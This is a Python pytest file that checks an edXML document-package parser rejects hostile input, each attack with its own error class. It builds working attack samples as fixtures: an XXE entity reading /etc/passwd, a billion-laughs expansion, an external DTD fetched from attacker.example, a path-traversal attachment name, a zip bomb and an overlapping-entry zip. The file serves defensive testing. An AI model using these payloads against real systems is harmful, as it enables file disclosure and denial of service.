"""Hostile packages: each attack is refused with its own error class, before harm is done."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable

import pytest

from agent.core.edxml import ParseLimits, safe_attachment_name, unwrap_attachment
from agent.core.xmlstream import XmlLimits
from agent.errors import (
    AttachmentDecodeError,
    EntityDeclarationError,
    ExternalDtdError,
    ExternalEntityError,
    LienthongError,
    LimitExceededError,
    PackageError,
    UnsafeAttachmentNameError,
    XmlSyntaxError,
    ZipBombError,
    ZipStructureError,
)
from tests.unit.edxml.examples import STATUS_03
from tests.unit.edxml.helpers import edoc_bytes, parse, pdf_source

_ROOT = b'<edXML xmlns="http://www.mic.gov.vn/TBT/QCVN_102_2016">'


def _with_payload(base64_text: str) -> bytes:
    data, _ = edoc_bytes(attachments=[pdf_source(b"12345")])
    return data.replace(b">MTIzNDU=<", f">{base64_text}<".encode())


def _xxe() -> bytes:
    return (b'<?xml version="1.0"?>\n<!DOCTYPE edXML [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
            + STATUS_03.split(b"\n", 1)[1].replace(b"03<", b"&xxe;<"))


def _billion_laughs() -> bytes:
    entities = "".join(
        f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10)
    )
    return f'<!DOCTYPE edXML [<!ENTITY l0 "ha">{entities}]><edXML>&l9;</edXML>'.encode()


def _external_dtd() -> bytes:
    return b'<!DOCTYPE edXML SYSTEM "http://attacker.example/x.dtd">' + STATUS_03


def _deep() -> bytes:
    return _ROOT + b"<a>" * 1000 + b"</a>" * 1000 + b"</edXML>"


def _many_elements() -> bytes:
    return _ROOT + b"<x/>" * 60_000 + b"</edXML>"


def _much_text() -> bytes:
    return _ROOT + b"<x>" + b"A" * (9 << 20) + b"</x></edXML>"


def _truncated() -> bytes:
    return STATUS_03[: len(STATUS_03) // 2]


def _latin1() -> bytes:
    return b'<?xml version="1.0" encoding="UTF-8"?>' + _ROOT + b"<x>T\xe2y Ninh</x></edXML>"


CORPUS: list[tuple[str, Callable[[], bytes], type[LienthongError], str]] = [
    ("xxe", _xxe, ExternalEntityError, "external entity"),
    ("billion-laughs", _billion_laughs, EntityDeclarationError, "entities"),
    ("external-dtd", _external_dtd, ExternalDtdError, "external DTD"),
    ("deep-nesting", _deep, LimitExceededError, "nesting deeper than 64"),
    ("element-flood", _many_elements, LimitExceededError, "more than 50000 XML elements"),
    ("text-flood", _much_text, LimitExceededError, "characters of text"),
    ("truncated", _truncated, XmlSyntaxError, "not well-formed"),
    ("not-utf8", _latin1, XmlSyntaxError, "not well-formed"),
    ("empty", lambda: b"", XmlSyntaxError, "empty"),
    ("not-xml", lambda: b"%PDF-1.4", XmlSyntaxError, "not well-formed"),
    ("wrong-root", lambda: b"<html/>", PackageError, "not an edXML package"),
    ("base64-bad-char", lambda: _with_payload("MTIz$DU="), AttachmentDecodeError,
     "is not valid base64"),
    ("base64-non-ascii", lambda: _with_payload("MTIzNDU=é"), AttachmentDecodeError,
     "non-base64 character U+00E9"),
    ("base64-after-padding", lambda: _with_payload("MQ==MTIz"), AttachmentDecodeError,
     "data after its final '=' padding"),
    ("base64-truncated", lambda: _with_payload("MTIzN"), AttachmentDecodeError, "truncated"),
    ("base64-bad-padding", lambda: _with_payload("M==="), AttachmentDecodeError,
     "is not valid base64"),
]


@pytest.mark.parametrize(("make", "error", "message"), [c[1:] for c in CORPUS],
                         ids=[c[0] for c in CORPUS])
def test_hostile_xml_is_refused_with_its_own_error(
    make: Callable[[], bytes], error: type[LienthongError], message: str
) -> None:
    """The exact class says which attack it was; the message says it to an operator."""
    with pytest.raises(LienthongError) as caught:
        parse(make())
    assert (error, True) == (type(caught.value), message in caught.value.message)


def test_oversized_package_is_refused_before_it_is_read_to_the_end() -> None:
    """The package size cap stops reading (XmlLimits.max_bytes)."""
    data, _ = edoc_bytes(attachments=[pdf_source(b"x" * 50_000)])
    limits = ParseLimits(xml=XmlLimits(max_bytes=20_000, chunk_size=4096))
    with pytest.raises(LimitExceededError, match="larger than the 20000 byte limit"):
        parse(data, limits)


@pytest.mark.parametrize(
    ("limits", "message"),
    [
        (ParseLimits(max_attachments=2), "more than 2 attachments"),
        (ParseLimits(max_attachment_bytes=999), "larger than the 999 byte limit"),
        (ParseLimits(max_total_attachment_bytes=2500), "together exceed the 2500 byte limit"),
    ],
    ids=["count", "per-attachment", "total"],
)
def test_attachment_caps(limits: ParseLimits, message: str) -> None:
    """Count, per-attachment and total decoded bytes are capped while streaming."""
    sources = [pdf_source(b"x" * 1000, f"id{i}", f"{i}.pdf") for i in range(3)]
    data, _ = edoc_bytes(attachments=sources)
    with pytest.raises(LimitExceededError, match=message):
        parse(data, limits)


def test_defaults_accept_what_the_caps_refuse_above() -> None:
    """The same package passes with default limits: the caps above are what refused it."""
    sources = [pdf_source(b"x" * 1000, f"id{i}", f"{i}.pdf") for i in range(3)]
    data, _ = edoc_bytes(attachments=sources)
    assert [1000, 1000, 1000] == [a.size for a in parse(data)[0].attachments]


def test_hostile_attachments_parse_but_are_refused_at_delivery() -> None:
    """A name or a payload is data to the parser; the delivery guards refuse them, each with
    its own class: traversal name → UnsafeAttachmentNameError, zip bomb → ZipBombError,
    overlapping entries → ZipStructureError."""
    bomb = io.BytesIO()
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("a.pdf", bytes(4 << 20))
    overlapping = _overlapping_zip()
    data, _ = edoc_bytes(attachments=[
        pdf_source(b"%PDF", "n", "..\\..\\autorun.inf"),
        pdf_source(bomb.getvalue(), "b", "bomb.zip"),
        pdf_source(overlapping, "o", "overlap.zip"),
    ])
    package, sink = parse(data)
    outcomes = []
    for info in package.attachments:
        try:
            safe_attachment_name(info.attachment_name or "")
            unwrap_attachment(io.BytesIO(sink.payloads[info.index]), info.attachment_name or "",
                              io.BytesIO())
        except LienthongError as exc:
            outcomes.append(type(exc))
    assert [UnsafeAttachmentNameError, ZipBombError, ZipStructureError] == outcomes


def _overlapping_zip() -> bytes:
    inner = b"PK\x03\x04" + struct.pack("<5H3L2H", 20, 0, 0, 0, 0, zlib.crc32(b"x"), 1, 1, 5, 0)
    inner += b"b.pdf" + b"x"
    outer = b"PK\x03\x04" + struct.pack("<5H3L2H", 20, 0, 0, 0, 0, zlib.crc32(inner), len(inner),
                                        len(inner), 5, 0) + b"a.pdf" + inner
    centrals = b"".join(
        b"PK\x01\x02" + struct.pack("<6H3L5H2L", 20, 20, 0, 0, 0, 0, crc, size, size, 5, 0, 0, 0,
                                    0, 0, offset) + name
        for name, crc, size, offset in ((b"a.pdf", zlib.crc32(inner), len(inner), 0),
                                        (b"b.pdf", zlib.crc32(b"x"), 1, 35))
    )
    end = b"PK\x05\x06" + struct.pack("<4H2LH", 0, 0, 2, 2, len(centrals), len(outer), 0)
    return outer + centrals + end
